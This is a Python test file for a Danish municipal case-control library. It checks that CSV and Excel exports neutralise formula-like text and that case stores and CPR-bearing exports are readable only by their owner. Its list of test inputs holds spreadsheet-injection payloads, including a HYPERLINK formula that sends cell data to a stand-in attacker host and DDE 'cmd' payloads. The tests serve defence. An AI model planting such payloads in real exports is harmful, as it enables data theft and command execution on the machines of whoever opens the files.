"""Exports a spreadsheet never evaluates, and files only their owner can read (issue 13, items 4
and 6; ``spec/sikkerhed.md``).

* A text cell beginning with ``= + - @``, a tab or a carriage return (a ``sag_id`` of
  ``=HYPERLINK("http://…")`` or ``=cmd|' /C calc'!A0``) is a string with Excel's quote prefix in
  the KL workbook and gets a leading apostrophe in every CSV (OWASP); numbers stay numbers.
* The SQLite store (and its -wal/-shm), the kontrolark and the exports with CPR are 0600 under a
  permissive umask; an existing store others can read gives a Danish warning.
"""

import csv
import datetime as dt
import os
import sqlite3
import warnings
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kontrol_lib.flader.argumenter import skriv_csv
from kontrol_lib.flader.cli import main
from kontrol_lib.jobs.daglig import koer_udfald
from kontrol_lib.maal import kl_effektmaaling, provenu
from kontrol_lib.rapporter import indsigt
from kontrol_lib.regler import UDFALD_KOLONNER, skriv_udfald
from kontrol_lib.sager import SagsLager
from kontrol_lib.sager import kontrolsagsfil
from kontrol_lib.vokabular.celler import csv_tekst, tekst_celler
from kontrol_lib.vokabular.fejl import KontrolAdvarsel
from test_sagsstyring_hjaelp import REGLER, YM1, YM2, YM3, frame, u

FIXTURE = Path(__file__).parent / "data" / "provenu" / "ballerup_2019_2023.csv"
ONDE = ['=HYPERLINK("http://angriber.example/?d="&A2,"Klik her")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def aaben_umask():
    """A umask that would leave new files readable by everyone (0644)."""
    gammel = os.umask(0o022)
    yield
    os.umask(gammel)


def tilstand(p: Path) -> str:
    return oct(p.stat().st_mode & 0o777)


def laes_csv(p: Path, **kw) -> list[dict]:
    with open(p, encoding=kw.pop("encoding", "utf-8"), newline="") as f:
        return list(csv.DictReader(f, **kw))


# ------------------------------------------------------------------------------------- safe exports
def test_formula_like_case_ids_are_text_in_the_kl_workbook_and_amounts_stay_numbers(tmp_path):
    df, _ = kontrolsagsfil.indlaes(FIXTURE)
    aar2023 = [i for i, a in enumerate(df["afsluttet"]) if a is not None and a.year == 2023][:len(ONDE)]
    assert len(aar2023) == len(ONDE)
    for i, ond in zip(aar2023, ONDE):
        df.at[i, "sag_id"] = ond
    kl_effektmaaling.skriv(df, 2023, tmp_path / "kl.xlsx", kommune=151)
    ws = openpyxl.load_workbook(tmp_path / "kl.xlsx")["Effektmåling"]
    celler = {c.value: c for c in ws["A"][1:]}
    for ond in ONDE:
        c = celler[ond.replace("\r", "\n")]    # the value is kept (XML reads a CR as a line feed)...
        assert c.data_type == "s" and c.quotePrefix, ond    # ...as a string, never a formula ('f')
    assert not any(c.data_type == "f" for ark in openpyxl.load_workbook(tmp_path / "kl.xlsx")
                   for raekke in ark.iter_rows() for c in raekke)
    for raekke in ws.iter_rows(min_row=2):
        assert raekke[9].data_type == "n" and raekke[10].data_type == "n"       # amounts are numbers
        assert raekke[1].data_type == "n" and not raekke[1].quotePrefix         # kommunekode too


def test_only_text_is_neutralised_a_negative_number_stays_a_number(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([-5, Decimal("-10.50"), "-10", "=1+1", "Ballerup", "a=b"])
    assert tekst_celler(ws) == 2
    wb.save(tmp_path / "t.xlsx")
    [r] = openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows()
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in r] == [
        (-5, "n", False), (-10.5, "n", False), ("-10", "s", True), ("=1+1", "s", True),
        ("Ballerup", "s", False), ("a=b", "s", False)]
    assert [csv_tekst(v) for v in (-5, Decimal("-1"), None, "-10", "=1", "\t=1", "x=1")] == [
        -5, Decimal("-1"), None, "'-10", "'=1", "'\t=1", "x=1"]


def test_the_list_csv_writer_neutralises_text_and_keeps_numbers_dates_and_amounts(tmp_path):
    df = pd.DataFrame({"sag_id": ONDE[:2] + ["ABC123"], "beloeb": [Decimal("-10.00"), Decimal("5"), None],
                       "antal": [-3, 0, 7], "dato": [dt.date(2024, 1, 2)] * 3})
    skriv_csv(df, tmp_path / "l.csv")
    rows = laes_csv(tmp_path / "l.csv")
    assert [r["sag_id"] for r in rows] == ["'" + ONDE[0], "'" + ONDE[1], "ABC123"]
    assert [r["beloeb"] for r in rows] == ["-10.00", "5.00", ""]
    assert [r["antal"] for r in rows] == ["-3", "0", "7"] and rows[0]["dato"] == "2024-01-02"


def store_with_case_ids(url, ids):
    lg = SagsLager(url, sag_id_kilde=iter(ids).__next__)
    koer_udfald(lg, frame(u(YM1, "flytning", "a"), u(YM2, "bilkoeb", "b"), u(YM3, "b_indkomst", "c")),
                dt.date(2024, 5, 15), regler=REGLER)
    return lg


def test_kontrol_log_and_the_list_csvs_neutralise_formula_like_case_ids(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'k.sqlite'}"
    lg = store_with_case_ids(url, ONDE[:3])
    assert main(["log", "--db", url, "--ud", str(tmp_path / "log.csv")]) == 0
    ids = {r["sag_id"] for r in laes_csv(tmp_path / "log.csv")}
    assert ids == {"'" + o for o in ONDE[:3]}
    assert main(["bestillingsliste", "--db", url, "--ud", str(tmp_path / "bl.csv")]) == 0
    assert {r["sag_id"] for r in laes_csv(tmp_path / "bl.csv")} == {"'" + o for o in ONDE[:3]}
    lg.bestil(3, "anna")
    assert main(["prioriteringsliste", "--bruger", "bo", "--formaal", "visitering", "--db", url,
                 "--ud", str(tmp_path / "pl.csv")]) == 0
    rows = laes_csv(tmp_path / "pl.csv")
    assert {r["sag_id"] for r in rows} == {"'" + o for o in ONDE[:3]} and {r["cpr"] for r in rows} == {YM1, YM2, YM3}


def test_the_provenu_and_indsigt_csvs_neutralise_text_but_not_negative_amounts(tmp_path):
    df = pd.DataFrame({"kategori": ["=1+1", "Ændret tildeling"], "tilbagebetalingskrav": [Decimal("-12.50"), Decimal("3")]})
    provenu.skriv_csv(df, tmp_path / "p.csv")
    rows = laes_csv(tmp_path / "p.csv")
    assert [(r["kategori"], r["tilbagebetalingskrav"]) for r in rows] == [("'=1+1", "-12.50"), ("Ændret tildeling", "3.00")]
    log = pd.DataFrame({"tid": [dt.datetime(2024, 5, 15, 10, tzinfo=dt.timezone.utc)], "kommunekode": [151],
                        "rolle": ["sagsbehandler"], "hvad": ["kontrolark"], "formaal": ["visitering"],
                        "sag_id": [ONDE[1]], "bruger": ["@anna"]})
    indsigt.gem(log, tmp_path / "i.csv", med_navne=True)
    [r] = laes_csv(tmp_path / "i.csv", encoding="utf-8-sig", delimiter=";")
    assert r["Sag"] == "'" + ONDE[1] and r["Medarbejder"] == "'@anna" and r["Dato"] == "15-05-2024"


# ------------------------------------------------------------------------------------ owner-only files
def test_a_new_sqlite_store_and_its_wal_and_shm_are_owner_only(tmp_path, aaben_umask):
    sti = tmp_path / "ny" / "k.sqlite"
    lg = SagsLager(f"sqlite:///{sti}")
    con = sqlite3.connect(sti)                 # keep the -wal/-shm files in place while we look
    con.execute("PRAGMA journal_mode=WAL")
    con.execute("CREATE TABLE t (x)")
    con.execute("INSERT INTO t VALUES (1)")
    con.commit()
    try:
        filer = [sti, Path(f"{sti}-wal"), Path(f"{sti}-shm")]
        assert all(p.exists() for p in filer)
        assert {p.name: tilstand(p) for p in filer} == {p.name: "0o600" for p in filer}
    finally:
        con.close()
        lg.luk()


def test_an_existing_store_readable_by_others_gives_a_danish_warning(tmp_path, capsys, aaben_umask):
    sti = tmp_path / "k.sqlite"
    SagsLager(f"sqlite:///{sti}").luk()
    with warnings.catch_warnings():
        warnings.simplefilter("error", KontrolAdvarsel)
        SagsLager(f"sqlite:///{sti}").luk()                     # 0600: no warning
    os.chmod(sti, 0o644)
    with pytest.warns(KontrolAdvarsel, match="kan læses af andre end ejeren") as w:
        SagsLager(f"sqlite:///{sti}").luk()
    assert f"chmod 600 {sti}" in str(w[0].message)
    assert main(["log", "--db", str(sti)]) == 0
    err = capsys.readouterr().err
    assert f"Advarsel: sagslageret {sti} kan læses af andre end ejeren" in err and "Traceback" not in err
    assert tilstand(sti) == "0o644"            # a warning, not a silent change of the user's file


def test_the_kontrolark_html_and_pdf_and_the_list_exports_are_owner_only(tmp_path, aaben_umask, capsys):
    url = f"sqlite:///{tmp_path / 'k.sqlite'}"
    lg = store_with_case_ids(url, ["S1", "S2", "S3"])
    [sag] = lg.bestil(1, "anna")
    ark = lg.kontrolark(sag, "anna", formaal="visitering")
    gammel = tmp_path / "ark.html"
    gammel.write_text("gammel")
    os.chmod(gammel, 0o644)                         # an existing, wider file is narrowed too
    for navn in ("ark.html", "ark.pdf"):
        p = ark.gem(tmp_path / navn)
        assert tilstand(p) == "0o600", navn
    assert "S" in (tmp_path / "ark.html").read_text(encoding="utf-8")
    assert main(["prioriteringsliste", "--bruger", "bo", "--formaal", "visitering", "--db", url,
                 "--ud", str(tmp_path / "pl.csv")]) == 0
    assert main(["log", "--db", url, "--ud", str(tmp_path / "log.csv")]) == 0
    assert tilstand(tmp_path / "pl.csv") == tilstand(tmp_path / "log.csv") == "0o600"


def test_the_udfald_csv_of_samkoer_is_owner_only_and_unchanged_otherwise(tmp_path, aaben_umask):
    df = pd.DataFrame([dict(ym_cpr=YM1, person_cpr=YM1, rolle="YM", regel="flytning", haendelsesdato=dt.date(2024, 5, 2),
                            haendelse_id="h1", kle="32.24.04", kommunekode=151, oplysninger="Flyttet")])
    p = skriv_udfald(df, tmp_path / "u" / "udfald.csv")
    assert tilstand(p) == "0o600"
    assert p.read_bytes().startswith(b"\xef\xbb\xbf") and b"\r" not in p.read_bytes()
    assert laes_csv(p, encoding="utf-8-sig", delimiter=";") == [dict(zip(UDFALD_KOLONNER, [
        YM1, YM1, "YM", "flytning", "2024-05-02", "h1", "32.24.04", "151", "Flyttet"]))]
